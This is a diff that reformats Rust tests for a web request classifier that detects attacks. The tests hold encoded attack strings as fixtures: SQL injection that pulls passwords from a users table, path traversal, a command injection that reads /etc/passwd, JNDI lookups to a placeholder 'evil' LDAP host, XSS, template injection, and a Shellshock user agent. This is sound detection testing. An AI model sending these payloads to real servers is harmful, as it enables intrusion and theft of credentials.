@@ -17,17 +17,32 @@ fn classify(url: &str, ua: &str) -> Event {
 fn sql_words_in_file_names_are_not_sqli_but_union_select_is() {
     // Field case 28: keyword rules flagged an image named "Insert or Update Table".
     let c = Classifier::new();
-    for url in ["/docs/img/Insert%20or%20Update%20Table.png", "/blog/how-to-select-a-union-rep"] {
+    for url in [
+        "/docs/img/Insert%20or%20Update%20Table.png",
+        "/blog/how-to-select-a-union-rep",
+    ] {
         let mut ev = Event::default();
         ev.set_url(url);
         c.classify(&mut ev);
-        assert!(!ev.attacks.contains(AttackClasses::SQLI), "{url}: {:?}", ev.findings);
+        assert!(
+            !ev.attacks.contains(AttackClasses::SQLI),
+            "{url}: {:?}",
+            ev.findings
+        );
     }
     let ev = classify("/item?id=1%20UNION%20SELECT%20pass%20FROM%20users--", "-");
     assert!(ev.attacks.contains(AttackClasses::SQLI));
-    let f = ev.findings.iter().find(|f| f.class == "sqli").expect("a sqli finding");
+    let f = ev
+        .findings
+        .iter()
+        .find(|f| f.class == "sqli")
+        .expect("a sqli finding");
     assert_eq!(f.part, "url.query");
-    assert!(f.decoding.contains("percent"), "decoding should be named: {}", f.decoding);
+    assert!(
+        f.decoding.contains("percent"),
+        "decoding should be named: {}",
+        f.decoding
+    );
 }
 
 #[test]
@@ -41,8 +56,15 @@ fn comment_padded_and_double_encoded_union_select_is_sqli() {
         let ev = classify(url, "-");
         assert!(ev.attacks.contains(AttackClasses::SQLI), "{url} missed");
     }
-    let ev = classify("/index.php?cat=7%252F%252A%252A%252FUNION%252F%252A%252A%252FSELECT%252F%252A%252A%252F1", "-");
-    assert!(ev.findings[0].decoding.contains("percent x2"), "{:?}", ev.findings);
+    let ev = classify(
+        "/index.php?cat=7%252F%252A%252A%252FUNION%252F%252A%252A%252FSELECT%252F%252A%252A%252F1",
+        "-",
+    );
+    assert!(
+        ev.findings[0].decoding.contains("percent x2"),
+        "{:?}",
+        ev.findings
+    );
 }
 
 #[test]
@@ -56,10 +78,17 @@ fn encoded_traversal_in_query_arguments_is_flagged() {
         "/download?f=..%5C..%5Cwindows%5Cwin.ini",
     ] {
         let ev = classify(url, "Mozilla/5.0");
-        assert!(ev.attacks.contains(AttackClasses::TRAVERSAL), "{url} missed");
+        assert!(
+            ev.attacks.contains(AttackClasses::TRAVERSAL),
+            "{url} missed"
+        );
     }
     let control = classify("/docs/v1..v2-changes", "Mozilla/5.0");
-    assert!(control.attacks.is_empty(), "control flagged: {:?}", control.findings);
+    assert!(
+        control.attacks.is_empty(),
+        "control flagged: {:?}",
+        control.findings
+    );
 }
 
 #[test]
@@ -97,18 +126,36 @@ fn ordinary_requests_are_not_flagged() {
 #[test]
 fn each_class_is_recognised_with_its_part() {
     let cases = [
-        ("/p?cmd=127.0.0.1%3Bcat%20/etc/passwd", AttackClasses::CMDI, "url.query"),
-        ("/p?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D", AttackClasses::JNDI, "url.query"),
+        (
+            "/p?cmd=127.0.0.1%3Bcat%20/etc/passwd",
+            AttackClasses::CMDI,
+            "url.query",
+        ),
+        (
+            "/p?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D",
+            AttackClasses::JNDI,
+            "url.query",
+        ),
         ("/p?name=%7B%7B7*7%7D%7D", AttackClasses::SSTI, "url.query"),
         ("/.env", AttackClasses::SENSITIVE_FILE, "url.path"),
         ("/.git/config", AttackClasses::SENSITIVE_FILE, "url.path"),
-        ("/p?q=%3Csvg%2Fonload%3Dalert(1)%3E", AttackClasses::XSS, "url.query"),
+        (
+            "/p?q=%3Csvg%2Fonload%3Dalert(1)%3E",
+            AttackClasses::XSS,
+            "url.query",
+        ),
     ];
     for (url, class, part) in cases {
         let ev = classify(url, "Mozilla/5.0");
         assert!(ev.attacks.contains(class), "{url}: {:?}", ev.findings);
         let name = class.names().next().unwrap();
-        assert!(ev.findings.iter().any(|f| f.class == name && f.part == part), "{url}: {:?}", ev.findings);
+        assert!(
+            ev.findings
+                .iter()
+                .any(|f| f.class == name && f.part == part),
+            "{url}: {:?}",
+            ev.findings
+        );
     }
 }
 
@@ -116,7 +163,10 @@ fn each_class_is_recognised_with_its_part() {
 fn attacks_in_user_agent_are_attributed_to_it() {
     let ev = classify("/", "() { :; }; /bin/bash -c 'id'");
     assert!(ev.attacks.contains(AttackClasses::CMDI));
-    assert_eq!(ev.findings.iter().find(|f| f.class == "cmdi").unwrap().part, "user_agent.original");
+    assert_eq!(
+        ev.findings.iter().find(|f| f.class == "cmdi").unwrap().part,
+        "user_agent.original"
+    );
     let ev = classify("/", "${${lower:j}ndi:ldap://x/a}");
     assert!(ev.attacks.contains(AttackClasses::JNDI));
 }
